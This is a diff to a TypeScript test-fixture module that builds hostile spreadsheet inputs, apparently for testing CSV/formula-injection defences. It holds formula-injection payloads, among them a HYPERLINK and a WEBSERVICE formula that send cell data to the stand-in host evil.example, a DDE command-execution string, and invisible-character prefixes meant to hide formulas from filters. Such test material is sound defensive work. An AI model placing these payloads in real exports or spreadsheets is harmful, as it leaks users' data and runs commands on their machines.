@@ -7,19 +7,33 @@ export interface HostileUser {
   departmentName: string;
 }
 
-const formulaBeginnings = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+export const formulaBeginnings = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
 /** Blanks of every kind; the first four are trimmed where they are read. */
 const blanks = [' ', '\t', '\u00a0', '\u3000', '\u2003', '\u2009', '\u1680', '\u200b', '\ufeff', '\v', '\f', '\u0085'];
 const lineBreaks = ['\r', '\n', '\r\n', '\u2028', '\u2029'];
 const bidirectionalControls = ['\u202e', '\u202a', '\u2066', '\u2069', '\u200e', '\u200f', '\u061c'];
 const zeroWidth = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff'];
 
+/** What may stand before a formula so that it is not seen. */
+export const formulaPrefixes: readonly string[] = [
+  '',
+  ...blanks,
+  ...lineBreaks,
+  ...bidirectionalControls,
+  ...zeroWidth,
+  ...['\0', "\0'", "'\0", '\0 \0', "'", "''"],
+];
+
 /** One of each, whole. */
 export const fixedTexts: readonly string[] = [
   ...formulaBeginnings.flatMap((begin) => [`${begin}1+1`, `${begin}SUM(A1:B2)`, `'${begin}1+1`, `''${begin}2+2`]),
-  ...[...blanks, ...lineBreaks, ...bidirectionalControls, ...zeroWidth, '\0', "\0'", "'\0", '\0 \0'].flatMap(
-    (before) => [`${before}=1+1`, `${before}＝1+1`, `${before}x`, `x${before}=y`, `x${before}`],
-  ),
+  ...formulaPrefixes.flatMap((before) => [
+    `${before}=1+1`,
+    `${before}＝1+1`,
+    `${before}x`,
+    `x${before}=y`,
+    `x${before}`,
+  ]),
   '=HYPERLINK("https://evil.example/?"&A1,"Click")',
   "=cmd|' /C calc'!A0",
   '=WEBSERVICE("https://evil.example/")',
